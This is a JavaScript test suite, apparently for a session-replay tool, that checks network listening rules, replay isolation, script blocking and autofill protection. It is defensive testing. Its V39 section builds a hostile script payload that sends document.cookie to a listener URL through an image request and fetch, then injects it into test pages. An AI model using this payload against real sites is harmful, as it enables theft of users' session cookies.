// The walls around a replay and around the server: nothing listens where anybody on the way could read along, and what was recorded
// loads nothing, runs nothing and is filled in by nobody while it is watched. V37 to V39 and V42.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after } from "node:test";
import { openWindow, startBrowser } from "../browser/lib/browser.mjs";
import { answers, freePort, runHushreel, serves, startHushreel } from "../browser/lib/hushreel.mjs";
import { openReplay } from "../browser/lib/player.mjs";
import { serveFolder } from "../browser/lib/sites.mjs";
import { record } from "../browser/lib/visit.mjs";
import { hold } from "./lib/held.mjs";
import { nakedRecorder } from "./lib/naked.mjs";
import { TOLD_AT, toldAsIs } from "./lib/told.mjs";
import { hostile } from "./vectors/hostile.mjs";
import { loading } from "./vectors/loading.mjs";

const browser = await startBrowser();
const hushreel = await startHushreel();
after(() => hushreel.stop());
/** Time for what nobody can await: that something is not asked for, does not run. */
const SETTLE_MS = 400;

// V37

const folder = await mkdtemp(join(tmpdir(), "hushreel-listen-"));
after(() => rm(folder, { recursive: true, force: true }));

/** Words and surroundings of a server that must not come to serve, and leaves nothing behind. */
const refusesToServe = ({ words = [], env = {}, file = null, command = "serve", says = /--behind-proxy/ }) => async () => {
  const data = join(folder, "data");
  const config = join(folder, "config.toml");
  await writeFile(config, file ?? "");
  const { code, stderr } = await runHushreel([command, "--data", data, "--config", config, ...words], { env: { ...process.env, ...env } });
  assert.equal(code, 78, stderr);
  assert.match(stderr, says);
  assert.ok(!(await readdir(folder)).includes("data"), "nothing was made");
};
const servesWith = (words, file = "") => async () => {
  const config = join(folder, "config.toml");
  const data = join(folder, "served", "store");
  await writeFile(config, file);
  const said = await serves(["--data", data, "--config", config, ...words]);
  assert.ok(said?.listen.length, "it serves");
  await rm(join(folder, "served"), { recursive: true, force: true });
};

/** The login cookie that a server with this configuration sets. */
async function cookieBehindProxy() {
  const port = await freePort();
  const data = join(folder, "cookie", "store");
  const config = join(folder, "config.toml");
  await writeFile(config, `behind_proxy = true\npublic_url = "https://rec.example.com"\n`);
  const child = spawn(process.env.HUSHREEL_BIN ?? "target/debug/hushreel", ["serve", "--json", "--data", data, "--config", config, "--listen", `127.0.0.1:${port}`], { stdio: ["ignore", "pipe", "ignore"] });
  const said = new Promise((resolve) => child.stdout.once("data", (line) => resolve(JSON.parse(line))));
  const { setup } = await said;
  await answers(`http://127.0.0.1:${port}/readyz`);
  const claim = { token: setup.split("#token=")[1], email: "keeper@example.org", password: "lantern quarry meadow thimble", language: "en" };
  const init = { method: "POST", headers: { "Content-Type": "application/json", Origin: "https://rec.example.com" }, body: JSON.stringify(claim) };
  const answer = await fetch(`http://127.0.0.1:${port}/api/v1/setup`, init);
  const ended = new Promise((resolve) => child.once("exit", resolve));
  child.kill();
  await ended;
  await rm(join(folder, "cookie"), { recursive: true, force: true });
  return { setup, cookie: answer.headers.get("set-cookie") };
}

const plainHttp = {
  what: "playback or ingest over plain HTTP on a public address",
  beside: {
    "loopback of both kinds, by number and by name": servesWith(["--listen", "127.0.0.1:0", "--listen", "localhost:0", "--listen", "[::1]:0"]),
    "any address behind a proxy that ends TLS": servesWith(["--listen", "0.0.0.0:0", "--behind-proxy"], `public_url = "https://rec.example.com"\n`),
  },
  variants: {
    "every address": refusesToServe({ words: ["--listen", "0.0.0.0:0"] }),
    "every address, of the newer protocol": refusesToServe({ words: ["--listen", "[::]:0"] }),
    "every address, of the older protocol in the newer": refusesToServe({ words: ["--listen", "[::ffff:0.0.0.0]:0"] }),
    "an address of a local network": refusesToServe({ words: ["--listen", "10.0.0.1:8080"] }),
    "an address that clouds hand out": refusesToServe({ words: ["--listen", "169.254.1.1:8080"] }),
    "one beside loopback": refusesToServe({ words: ["--listen", "127.0.0.1:0", "--listen", "0.0.0.0:0"] }),
    "one in a list": refusesToServe({ words: ["--listen", "127.0.0.1:0,0.0.0.0:0"] }),
    "by the environment": refusesToServe({ env: { HUSHREEL_LISTEN: "0.0.0.0:0" } }),
    "by the file": refusesToServe({ file: `listen = "0.0.0.0:0"\n` }),
    "one of several in the file": refusesToServe({ file: `listen = ["127.0.0.1:0", "[::]:0"]\n` }),
    "where a proxy is denied": refusesToServe({ words: ["--listen", "0.0.0.0:0"], file: "behind_proxy = false\n" }),
    "a host's name, which may lead anywhere": refusesToServe({ words: ["--listen", "rec.example.com:8080"], says: /not an address/ }),
    "a public address without TLS, behind a proxy": refusesToServe({ words: ["--behind-proxy"], file: `public_url = "http://rec.example.com"\n`, says: /plain HTTP/ }),
    "a public address without TLS, before a loopback server": refusesToServe({ file: `public_url = "http://10.0.0.1:8080"\n`, says: /plain HTTP/ }),
    "the demo": refusesToServe({ command: "demo", words: ["--listen", "0.0.0.0:0", "--shop", "127.0.0.1:0"], says: /this machine only/ }),
    "the demo's shop": refusesToServe({ command: "demo", words: ["--listen", "127.0.0.1:0", "--shop", "0.0.0.0:0"], says: /this machine only/ }),
    "a site that is itself plain": async () => {
      const { code, stderr } = await runHushreel(["site", "add", "--data", hushreel.data, "--name", "Plain", "--origin", "http://shop.example.com", "--purpose", "x"]);
      assert.notEqual(code, 0);
      assert.match(stderr, /plain http/);
    },
    "a login behind a proxy": async () => {
      const { setup, cookie } = await cookieBehindProxy();
      assert.ok(setup.startsWith("https://"), setup);
      assert.match(cookie, /^__Host-hushreel=.*; Secure/);
    },
  },
};

// V38

/** The live site and a third party in one: every address answers, and is noted. */
async function startListener(answer = () => null) {
  const listener = { asked: [] };
  const server = createServer((question, reply) => {
    listener.asked.push(question.url);
    const { type, body } = answer(question.url) ?? { type: "text/plain", body: "" };
    reply.writeHead(200, { "Content-Type": type, "Access-Control-Allow-Origin": "*", "Cache-Control": "no-store" }).end(body);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  after(() => {
    server.closeAllConnections();
    server.close();
  });
  return Object.assign(listener, { origin: `http://127.0.0.1:${server.address().port}` });
}

/** Show events in the real player, with a network to reach; `look` at it once everything is shown. */
async function watch(events, look = () => {}, before = () => {}) {
  const { page, context, errors } = await openWindow(browser);
  page.setDefaultTimeout(15_000);
  try {
    await before(page, context);
    const replay = await openReplay(page, hushreel, events, [], { online: true });
    await replay.show(events.at(-1).timestamp);
    await page.waitForTimeout(SETTLE_MS);
    return await look(page, { errors });
  } finally {
    await context.close();
  }
}
const asIs = async (html, changes) => {
  const { page, context } = await openWindow(browser);
  try {
    return await toldAsIs(page, html, changes);
  } finally {
    await context.close();
  }
};

const third = await startListener();
const fetched = { live: null, told: null, recorded: null };
const addressOf = (name) => `/${name.replace(/\W+/g, "-")}`;
/** A page with every way to load something; each has an address of its own. */
const loadingPage = () => `<!doctype html><html lang="en"><head>${Object.entries(loading).map(([name, { head }]) => head?.(third.origin + addressOf(name)) ?? "").join("\n")}</head>
<body><h1 id="shown">Shown</h1>${Object.entries(loading).map(([name, { html }]) => html?.(third.origin + addressOf(name)) ?? "").join("\n")}</body></html>`;

async function fetchedWhileWatching(events) {
  const from = third.asked.length;
  const strays = [];
  await watch(
    events,
    async (page) => assert.equal(await page.evaluate(() => window.replay.document().querySelector("#shown").textContent), "Shown"),
    (page, context) => context.on("request", (request) => /^https?:/.test(request.url()) && !request.url().startsWith(hushreel.address) && strays.push(request.url())),
  );
  return { asked: third.asked.slice(from), strays };
}

const livePage = {
  "the page itself, which fetches all of it": async () => {
    const site = await serveFolder("/nowhere", { "/page.html": loadingPage() });
    const { page, context } = await openWindow(browser);
    await page.goto(`${site.origin}/page.html`);
    await page.waitForTimeout(4 * SETTLE_MS);
    await context.close();
    await site.stop();
    fetched.live = [...third.asked];
  },
  "the player, told all of it by nobody who hides anything": async () => {
    fetched.told = await fetchedWhileWatching(await asIs(loadingPage()));
  },
  "the player, told what our recorder and our server told": async () => {
    // Nothing but the replay may be noted from here on.
    const recorded = await record(browser, hushreel, { pages: loadingPage(), steps: (page) => page.waitForTimeout(SETTLE_MS), throws: true });
    assert.ok(JSON.stringify(recorded.events).includes("Shown"));
    fetched.recorded = await fetchedWhileWatching(recorded.events);
  },
};
const loads = Object.fromEntries(
  Object.keys(loading).map((name) => [
    name,
    () => {
      const address = addressOf(name);
      assert.ok(fetched.live.some((asked) => asked.startsWith(address)), "the page itself asks for it");
      assert.deepEqual(fetched.told.asked.filter((asked) => asked.startsWith(address)), [], "told by nobody who hides anything");
      assert.deepEqual(fetched.recorded.asked.filter((asked) => asked.startsWith(address)), [], "told by our recorder");
      assert.deepEqual(fetched.recorded.strays, [], "not even tried, where our server told it");
    },
  ]),
);

// V39

/** A word in the watcher's browser that a script of the replay could read, and the cookie of a login. */
const COOKIE = "watcherscookie";

/** What a hostile page's script does wherever it runs; `name` is told of it. */
const payload = (listener, address) => `(function(){var u='${listener}/ran${address}';try{top.ran=u}catch(e){}try{new Image().src=u+'?'+document.cookie}catch(e){}try{fetch(u)}catch(e){}try{alert(u)}catch(e){}})()`;

/** Do what a script waits for. */
async function provoke(page, inside) {
  await page.evaluate((inside) => {
    const root = inside ? window.replay.document() : document;
    for (const node of root.querySelectorAll("[data-press]")) node.click();
    for (const node of root.querySelectorAll("[data-focus]")) node.focus();
  }, inside);
  await page.mouse.click(60, 60);
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  await page.waitForTimeout(SETTLE_MS);
}

const scripts = await startListener((url) => (url.startsWith("/script") ? { type: "text/javascript", body: payload(scripts.origin, url.slice("/script".length)) } : null));
const ranOf = (name, from) => scripts.asked.slice(from).filter((asked) => asked.startsWith(`/ran${addressOf(name)}`));

/** Whether anything of a hostile page ran where it is simply opened. */
async function runsLive(name, html) {
  const site = await serveFolder("/nowhere", { "/page.html": html });
  const { page, context } = await openWindow(browser);
  const from = scripts.asked.length;
  page.on("dialog", (dialog) => dialog.dismiss().catch(() => {}));
  await page.goto(`${site.origin}/page.html`).catch(() => {});
  await provoke(page, false).catch(() => {});
  await context.close();
  await site.stop();
  return ranOf(name, from).length > 0;
}

/** Assert that nothing of these events runs while they are watched. */
async function runsNothing(name, events) {
  const from = scripts.asked.length;
  const trouble = [];
  await watch(
    events,
    async (page) => {
      const here = page.url();
      await provoke(page, true);
      assert.equal(await page.evaluate(() => window.ran ?? null), null, "no script ran");
      assert.equal(page.url(), here, "nobody was led away");
      assert.equal(page.context().pages().length, 1, "no window was opened");
      assert.ok(await page.evaluate(() => document.cookie.includes("watcherscookie")), "there was a cookie to be read");
    },
    async (page, context) => {
      await context.addCookies([{ name: "own", value: COOKIE, url: hushreel.address }]);
      page.on("dialog", (dialog) => (trouble.push(dialog.message()), dialog.dismiss().catch(() => {})));
    },
  );
  assert.deepEqual([trouble, scripts.asked.slice(from)], [[], []], "no dialog, no request");
}

const hostilePage = (name) => {
  const { head, html } = hostile[name];
  const words = { code: payload(scripts.origin, addressOf(name)), script: `${scripts.origin}/script${addressOf(name)}`, away: `${scripts.origin}/ran${addressOf(name)}` };
  return { words, html: `<!doctype html><html lang="en"><head>${head?.(words) ?? ""}</head><body>${html?.(words) ?? ""}<h1 id="shown">Shown</h1></body></html>` };
};
const attempts = Object.fromEntries(
  Object.keys(hostile).map((name) => [
    name,
    async () => {
      const { words, html } = hostilePage(name);
      assert.ok(await runsLive(name, html), "where the page is simply opened it runs");
      const { changes } = hostile[name];
      await runsNothing(name, await asIs(html, changes?.(words)));
    },
  ]),
);

/** All hostile pages, visited under a recorder that hides nothing, through the real door. */
async function recordedNaked() {
  const pages = Object.fromEntries(Object.keys(hostile).map((name) => [`${addressOf(name)}.html`, hostilePage(name).html]));
  const site = await serveFolder("/nowhere", { ...pages, "/quiet.html": "<!doctype html><html lang=en><head></head><body>Shown</body></html>", "/recorder.js": "" });
  const { key } = await hushreel.addSite(site.origin, { preset: "full" });
  const config = await (await fetch(`${hushreel.address}/r/${key}.json`)).json();
  const recorder = await nakedRecorder(hushreel.address, config);
  site.snippet = `<script>${recorder.replaceAll("</script", "<\\/script")}</script>`;
  for (const path of [...Object.keys(pages), "/quiet.html"]) {
    const { page, context } = await openWindow(browser);
    page.on("dialog", (dialog) => dialog.dismiss().catch(() => {}));
    await page.goto(site.origin + path).catch(() => {});
    await page.waitForTimeout(SETTLE_MS);
    await page.goto("about:blank").catch(() => {});
    await page.waitForTimeout(SETTLE_MS);
    await context.close();
  }
  await site.stop();
  const { items } = await hushreel.api(`/api/v1/recordings?site=${key}&limit=200`);
  return items;
}

attempts["all of them, told by a recorder that hides nothing, through the door"] = async () => {
  const items = await recordedNaked();
  const played = items.filter(({ refused_rule, events }) => !refused_rule && events > 0);
  assert.ok(played.length > 0, "what breaks no rule was taken");
  for (const { id } of played) {
    const events = await hushreel.api(`/api/v1/recordings/${id}/events`);
    if (events.length > 1) await runsNothing("none", events);
  }
};

// V42

const FORM = `<form id="form" autocomplete="on"><input id="mail" type="email" name="email" autocomplete="email"><input id="name" name="name" autocomplete="name">
<input id="pass" type="password" name="password" autocomplete="current-password"><input id="plain" name="cc-number" autocomplete="cc-number">
<textarea id="words" autocomplete="street-address"></textarea><select id="land" autocomplete="country"><option>cz<option>sk</select>
<input type="checkbox" id="box"><div id="edit" contenteditable="true">x</div><button id="send" data-press>Send</button></form><h1 id="shown">Shown</h1>`;
const FIELDS = ["mail", "name", "pass", "plain", "words", "land"];
const formPage = `<!doctype html><html lang="en"><head></head><body>${FORM}</body></html>`;

/** Look at the form as it is replayed; with `changes` behind its first picture. */
const watchForm = (look, changes) => async () => {
  await watch(await asIs(formPage, changes), (page) => look(page));
};
const fieldsOf = (page) => page.evaluate((ids) => ids.map((id) => {
  const node = window.replay.document().getElementById(id);
  return { id, autocomplete: node.getAttribute("autocomplete"), value: node.value, checked: node.checked };
}), FIELDS);
const openedAs = async (page) => page.evaluate(() => window.replay.document().defaultView.frameElement.inert);
const EMPTY = { mail: "", name: "", pass: "", plain: "", words: "", land: "cz" };
const unchanged = async (page) => {
  assert.deepEqual(Object.fromEntries((await fieldsOf(page)).map(({ id, value }) => [id, value])), EMPTY);
  assert.equal(await page.evaluate(() => window.replay.document().getElementById("edit").textContent), "x");
  assert.equal(await page.evaluate(() => window.replay.document().getElementById("box").checked), false);
};

/** The same form, opened as it is. */
const openForm = (look) => async () => {
  const site = await serveFolder("/nowhere", { "/page.html": formPage });
  const { page, context } = await openWindow(browser);
  await page.goto(`${site.origin}/page.html`);
  await look(page);
  await context.close();
  await site.stop();
};

const autofill = {
  what: "the viewer's own autofill shown as the visitor's",
  beside: {
    "a form that is simply opened asks to be filled in and typed into": openForm(async (page) => {
      assert.equal(await page.getAttribute("#mail", "autocomplete"), "email");
      await page.locator("#mail").focus();
      await page.keyboard.type("typed");
      await page.keyboard.press("Tab");
      await page.keyboard.type("next");
      assert.deepEqual([await page.inputValue("#mail"), await page.inputValue("#name")], ["typed", "next"]);
    }),
    "without the wall around it the keyboard reaches what is replayed": watchForm(async (page) => {
      await page.evaluate(() => (window.replay.document().defaultView.frameElement.inert = false));
      await page.keyboard.press("Tab");
      await page.keyboard.type("typed");
      assert.equal((await fieldsOf(page)).find(({ id }) => id === "mail").value, "typed");
    }),
    "what the visitor typed is shown": async () => {
      const events = await asIs(formPage);
      const field = JSON.stringify(events).match(/"id":(\d+),"tagName":"input","attributes":\{"id":"name"/)[1];
      events.splice(-1, 0, { type: 3, timestamp: TOLD_AT - 5, data: { source: 5, id: +field, text: "Quince", isChecked: false } });
      await watch(events, async (page) => assert.equal((await fieldsOf(page)).find(({ id }) => id === "name").value, "Quince"));
    },
  },
  variants: {
    "no field of the first picture asks for what the browser knows": watchForm(async (page) => {
      for (const { id, autocomplete } of await fieldsOf(page)) assert.equal(autocomplete, "new-password", id);
    }),
    "none asks for it later": watchForm(async (page) => {
      for (const { id, autocomplete } of await fieldsOf(page)) assert.equal(autocomplete, "new-password", id);
    }, [{ id: "plain", autocomplete: "cc-number" }, { id: "mail", autocomplete: null }, { id: "name", autocomplete: "on" }]),
    "one that becomes a password's does not": watchForm(async (page) => {
      assert.equal(await page.evaluate(() => window.replay.document().getElementById("plain").type), "password");
      assert.equal((await fieldsOf(page)).find(({ id }) => id === "plain").autocomplete, "new-password");
    }, [{ id: "plain", type: "password" }]),
    "none is there for the keyboard, the pointer or a screen reader": watchForm(async (page) => assert.ok(await openedAs(page), "all of it is inert")),
    "none is reached by the keyboard": watchForm(async (page) => {
      for (let press = 0; press < 12; press++) {
        await page.keyboard.press("Tab");
        assert.ok(!(await page.evaluate(() => window.replay.document().activeElement?.id)), "the focus stays outside");
        await page.keyboard.type("secret");
      }
      await unchanged(page);
    }),
    "none is reached by the pointer": watchForm(async (page) => {
      const boxes = await page.evaluate((ids) => ids.map((id) => {
        const { x, y, width, height } = window.replay.document().getElementById(id).getBoundingClientRect();
        return [x + width / 2, y + height / 2];
      }), [...FIELDS, "box", "edit"]);
      for (const [x, y] of boxes) {
        await page.mouse.click(x, y);
        await page.keyboard.type("secret");
        await page.keyboard.press("Space");
      }
      await unchanged(page);
    }),
    "none takes what is pasted or dropped": watchForm(async (page) => {
      await page.evaluate(() => document.execCommand("insertText", false, "secret"));
      await page.mouse.click(60, 20);
      await page.keyboard.insertText("secret");
      await unchanged(page);
    }),
  },
};

hold("walls", {
  V37: plainHttp,
  V38: { what: "the replay fetching from the live site or a third party", beside: livePage, variants: loads },
  V39: {
    what: "script execution in a replay",
    beside: { "a page that only shows something is shown": async () => runsNothing("none", await asIs(hostilePage("a link that runs").html.replace(/<a .*?<\/a>/, ""))) },
    variants: attempts,
  },
  V42: autofill,
});
